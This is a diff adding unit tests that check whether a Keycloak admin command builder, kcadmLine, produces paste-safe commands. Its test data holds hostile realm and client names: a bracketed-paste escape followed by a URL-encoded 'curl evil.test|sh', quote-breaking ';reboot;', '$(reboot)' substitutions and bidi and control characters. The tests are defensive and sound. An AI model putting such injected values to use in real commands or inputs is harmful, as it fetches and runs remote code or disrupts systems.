@@ -48,6 +48,25 @@ describe('the client to register', () => {
     expect(kcadmLine(client, '')).toContain('-r REALM ');
     expect(quoted("it's")).toBe("'it'\\''s'");
   });
+
+  it.each([
+    ['ends a paste and runs what follows', '%1B%5B201~%0Acurl%20evil.test%7Csh%0A', 'REALM'],
+    ['has a line end', 'a%0Ab', 'REALM'],
+    ['reads backwards', '%E2%80%AEffats', 'REALM'],
+    ['is an option', '--help', 'REALM'],
+    ['would end the quotes', "'%3Breboot%3B'", "''\\'';reboot;'\\'''"],
+    ['would be expanded', '%24(reboot)%60reboot%60!!', "'$(reboot)`reboot`!!'"],
+  ])('makes a command that is safe to paste where a realm’s name %s', (_, name, word) => {
+    const line = kcadmLine(client, `https://sso.example/realms/${name}`);
+    expect(line).toContain(`-r ${word} -b '{`);
+    expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
+  });
+
+  it('makes a command that is safe to paste whatever its client is called', () => {
+    const named = { ...client, clientId: '\u001b[201~\n\u009b\u202e', name: "it's" };
+    expect(kcadmLine(named, '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
+    expect(quoted('\u0085\u2028')).toBe("' '");
+  });
 });
 
 describe('a registration', () => {
